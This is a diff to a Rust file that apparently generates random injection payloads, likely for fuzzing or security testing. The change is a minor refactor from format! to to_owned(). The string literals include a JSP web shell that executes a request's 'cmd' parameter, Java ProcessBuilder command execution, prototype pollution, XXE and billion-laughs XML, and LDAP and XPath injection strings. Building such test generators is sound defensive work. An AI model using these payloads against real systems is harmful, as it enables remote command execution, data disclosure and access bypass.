@@ -169,9 +169,10 @@ fn code(rng: &mut Rng) -> String {
         11 => format!("print({}*{})", rng.below(9999), rng.below(9999)),
         12 => format!("<% out.println({}*{}); %>", rng.below(999), rng.below(999)),
         13 => format!("new java.lang.ProcessBuilder(\"{command}\").start()"),
-        14 => format!(
+        14 => {
             "<%@ page import=\"java.io.*\"%><% Runtime.getRuntime().exec(request.getParameter(\"cmd\")); %>"
-        ),
+                .to_owned()
+        }
         15 => format!(
             "{{\"__proto__\":{{\"{}\":\"{}\"}}}}",
             rng.pick(&["polluted", "isAdmin", "shell", "status"]),
@@ -379,9 +380,7 @@ fn entity(rng: &mut Rng) -> String {
         0 => format!("<!DOCTYPE {name} [<!ENTITY {name} SYSTEM \"{target}\">]>"),
         1 => format!("<!DOCTYPE r [ <!ELEMENT r ANY ><!ENTITY % {name} SYSTEM \"{target}\"> %{name}; ]>"),
         2 => format!("<!DOCTYPE r PUBLIC \"-//X//EN\" \"{target}\">"),
-        3 => format!(
-            "<?xml version=\"1.0\"?><!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;&lol;&lol;\">]><r>&lol2;</r>"
-        ),
+        3 => "<?xml version=\"1.0\"?><!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;&lol;&lol;\">]><r>&lol2;</r>".to_owned(),
         _ => format!(
             "<xi:include parse=\"text\" href=\"{target}\" xmlns:xi=\"http://www.w3.org/2001/XInclude\"/>"
         ),
@@ -425,7 +424,7 @@ fn directory(rng: &mut Rng) -> String {
         ),
         1 => format!("{word})(|(password=*))"),
         2 => format!("*)(uid=*))(|(uid={word}"),
-        3 => format!("admin)(&)"),
+        3 => "admin)(&)".to_owned(),
         4 => "*))%00".to_owned(),
         5 => format!("' or '1'='1' or count(/*)=1 or '{word}'='{word}"),
         6 => format!("'] | //user/*[contains(*,'{word}')] | //x['"),
